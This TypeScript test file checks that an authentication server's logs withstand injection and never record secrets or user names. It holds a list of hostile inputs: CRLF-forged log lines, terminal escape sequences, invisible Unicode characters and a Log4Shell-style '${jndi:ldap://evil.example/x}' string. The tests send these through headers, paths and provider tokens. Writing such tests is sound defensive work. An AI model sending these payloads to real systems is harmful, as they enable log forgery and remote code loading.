import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { set } from '../conformance/support/relying-party.ts';
import { Browser } from '../server/bff/support/browser.ts';
import { CLIENT_SECRET } from '../server/bff/support/misbehaving-provider.ts';
import { startWithMisbehaving } from '../server/bff/support/server.ts';
import type { TestServer } from '../server/bff/support/server.ts';
import type { MisbehavingProvider } from '../server/bff/support/misbehaving-provider.ts';
import { raw } from '../server/http/raw.ts';
import { head, open as openWire } from '../server/proxy/support.ts';
import { isSignedIn, open, post, signIn, toCallback } from './support.ts';

type Server = TestServer & { readonly provider: MisbehavingProvider };
type Json = Readonly<Record<string, unknown>>;

/** A line that the attacker would like to see in the log. */
const FORGED = '{"level":"fatal","event":"forged","msg":"root signed in"}';
/** What breaks a line, an object or a terminal. */
const POISONS: readonly string[] = [
  `\r\n${FORGED}\r\n`,
  `\n${FORGED}\n`,
  `","event":"forged","x":"`,
  `\u001B[2J\u001B[31m${FORGED}`,
  `\u009B31m${FORGED}`,
  `\u2028${FORGED}\u2029`,
  `\u202E${FORGED}`,
  `\u0085${FORGED}`,
  `\u0000${FORGED}`,
  `\u200B\uFEFF\u00AD${FORGED}`,
  `\u{E0041}\u{E0042}${FORGED}`,
  '\uD800',
  '${jndi:ldap://evil.example/x} %s %o %j {}',
  'x'.repeat(8000),
];

/** What no line of a log may hold: control characters, invisible ones, and separators that some readers break at. */
const UNSAFE = /(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;

/** Every line of the log, read; it fails on whatever is no line of ours. */
function linesOf(log: string): readonly Json[] {
  expect(log).not.toMatch(UNSAFE);
  return log
    .trimEnd()
    .split('\n')
    .map((line) => {
      expect(line.length).toBeLessThan(20_000);
      const record: Json = JSON.parse(line);
      expect(record).toMatchObject({ time: expect.any(String), msg: expect.any(String) });
      expect([record['event'], record['level']]).not.toContain('forged');
      expect(record['level']).toMatch(/^(?:debug|info|warn|error)$/u);
      return record;
    });
}

/** Sends a request as bytes. */
function send({ origin }: Server, request: string, ...lines: readonly string[]): Promise<string> {
  const { host, port } = new URL(origin);
  const text = head(request, `Host: ${host}`, 'Connection: close', ...lines);
  return raw(Number(port), Buffer.from(text, 'latin1'));
}

/** UTF-8 as bytes that a header can carry. */
const inHeader = (text: string): string =>
  Buffer.from(text.replaceAll(/[\r\n\0]/gu, ' ')).toString('latin1');

describe('log injection', () => {
  it('by the head of a request: one line for each, and nothing in it that a terminal obeys', async () => {
    const server = await startWithMisbehaving({ 'app.trusted_proxies': ['127.0.0.0/8'] });
    for (const poison of POISONS) {
      const encoded = encodeURIComponent(poison.replaceAll(/\p{Cs}/gu, ''));
      const sent = inHeader(poison).slice(0, 4000);
      await send(
        server,
        `GET /${encoded.slice(0, 2000)} HTTP/1.1`,
        `User-Agent: ${sent}`,
        `X-Forwarded-For: ${sent}`,
        `X-Request-Id: ${sent}`,
        `Referer: ${sent}`,
        `Cookie: session=${sent}`,
        `Accept: ${sent}`,
      );
      await send(server, `GET /auth/web/callback?state=x&error=${encoded.slice(0, 4000)} HTTP/1.1`);
      await send(
        server,
        'POST /auth/web/logout HTTP/1.1',
        `Origin: ${sent}`,
        `X-CSRF-Token: ${sent}`,
      );
    }
    const requests = linesOf(server.log()).filter(({ msg }) => msg === 'request');
    expect(requests.length).toBeGreaterThanOrEqual(2 * POISONS.length);
  });

  it('by bytes in the path that are no text', async () => {
    const server = await startWithMisbehaving();
    for (const path of [
      '/\u009B31m',
      '/\u0085x',
      '/\u00AD',
      '/%0a%0d',
      '/"},{"event":"forged"}',
      '/\u00FF',
    ]) {
      await send(server, `GET ${path} HTTP/1.1`);
    }
    expect(linesOf(server.log()).length).toBeGreaterThan(0);
  });

  it('by what the provider says in an error, a claim or a token', async () => {
    const server = await startWithMisbehaving();
    const browser = new Browser();
    for (const poison of POISONS) {
      for (const misbehaviour of [
        { response: (parameters: URLSearchParams) => parameters.set('error', poison) },
        { token: () => ({ error: poison, error_description: poison }), tokenStatus: 400 },
        { claims: set({ name: poison, iss: poison }), header: { typ: poison } },
        { claims: set({ sub: poison }), userInfo: set({ sub: poison, name: poison }) },
      ]) {
        server.provider.misbehaviour = misbehaviour;
        await open(browser, await toCallback(server, browser));
      }
    }
    const lines = linesOf(server.log());
    expect(lines.filter(({ event }) => event === 'authn_login_fail').length).toBeGreaterThan(
      POISONS.length,
    );
  });

  it('by a logout token', async () => {
    const server = await startWithMisbehaving();
    for (const poison of POISONS) {
      const token = await server.provider.logoutToken(
        set({ nonce: poison, events: { [poison]: {} } }),
      );
      for (const form of [{ logout_token: token }, { logout_token: poison }]) {
        await new Browser().request(`${server.origin}/auth/backchannel-logout`, { form });
      }
    }
    const refused = linesOf(server.log()).filter(
      ({ event }) => event === 'backchannel_logout_fail',
    );
    expect(refused.length).toBeGreaterThanOrEqual(POISONS.length);
  });

  it('by any text at all in the places that are logged', async () => {
    const server = await startWithMisbehaving({ 'app.trusted_proxies': ['127.0.0.0/8'] });
    const hostile = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 40 }),
      fc.constantFrom(...POISONS.slice(0, 11)),
    );
    await fc.assert(
      fc.asyncProperty(hostile, async (text) => {
        const sent = Buffer.from(text.replaceAll(/(?![\t])\p{Cc}/gu, '')).toString('latin1');
        const path = `/${encodeURIComponent(text.replaceAll(/\p{Cs}/gu, ''))}`;
        await send(
          server,
          `GET ${path} HTTP/1.1`,
          `X-Forwarded-For: ${sent}`,
          `User-Agent: ${sent}`,
        );
      }),
      { numRuns: 50 },
    );
    expect(linesOf(server.log()).length).toBeGreaterThan(50);
  });
});

describe('the log', () => {
  it('holds no secret, whatever goes wrong', async () => {
    const server = await startWithMisbehaving();
    const browser = new Browser();
    await signIn(server, browser, '?return_to=/private?token=return-to-secret');
    const { csrf_token: csrf } = await browser.me(server.origin);
    const ids = await browser.cookies(server.origin);
    await post(server, browser, '/auth/web/refresh');
    const later = await browser.cookies(server.origin);
    await post(server, browser, '/auth/web/logout', 'wrong-csrf-token-of-somebody');
    await browser.request(`${server.origin}/x?code=query-secret&access_token=query-secret`);
    await open(browser, `${server.origin}/auth/web/callback?state=s&code=code-secret`);
    server.provider.misbehaviour = { tokenText: 'x', tokenStatus: 500 };
    const callback = await toCallback(server, browser);
    await open(browser, callback);
    server.clock.advance(400);
    await isSignedIn(server, browser);
    await post(server, browser, '/auth/web/refresh');
    const logoutToken = await server.provider.logoutToken(set({ nonce: 'n' }));
    const form = { logout_token: logoutToken };
    await new Browser().request(`${server.origin}/auth/backchannel-logout`, { form });
    const secrets = [
      ...ids.values(),
      ...later.values(),
      csrf ?? '',
      'wrong-csrf-token',
      CLIENT_SECRET,
      encodeURIComponent(CLIENT_SECRET),
      '-that-nobody-may-see',
      'query-secret',
      'code-secret',
      'return-to-secret',
      new URL(callback).searchParams.get('code') ?? '',
      logoutToken,
      'eyJ',
    ];
    expect(linesOf(server.log()).length).toBeGreaterThan(5);
    expect(secrets.filter((secret) => secret !== '' && server.log().includes(secret))).toEqual([]);
  });

  it('names a person by no more than a handle', async () => {
    const server = await startWithMisbehaving();
    const browser = new Browser();
    await signIn(server, browser);
    await post(server, browser, '/auth/web/logout');
    expect(server.log()).not.toMatch(/alice|Alice|example\.test/u);
  });

  it('has no line for what is no request, and the next one is whole', async () => {
    const server = await startWithMisbehaving();
    const wire = openWire(Number(new URL(server.origin).port), `${FORGED}\r\n\r\n`);
    await wire.until('HTTP/1.1 400');
    await open(new Browser(), `${server.origin}/health/live`);
    const requests = linesOf(server.log()).filter(({ msg }) => msg === 'request');
    expect(requests.map(({ path }) => path)).toEqual(['/health/live']);
  });
});
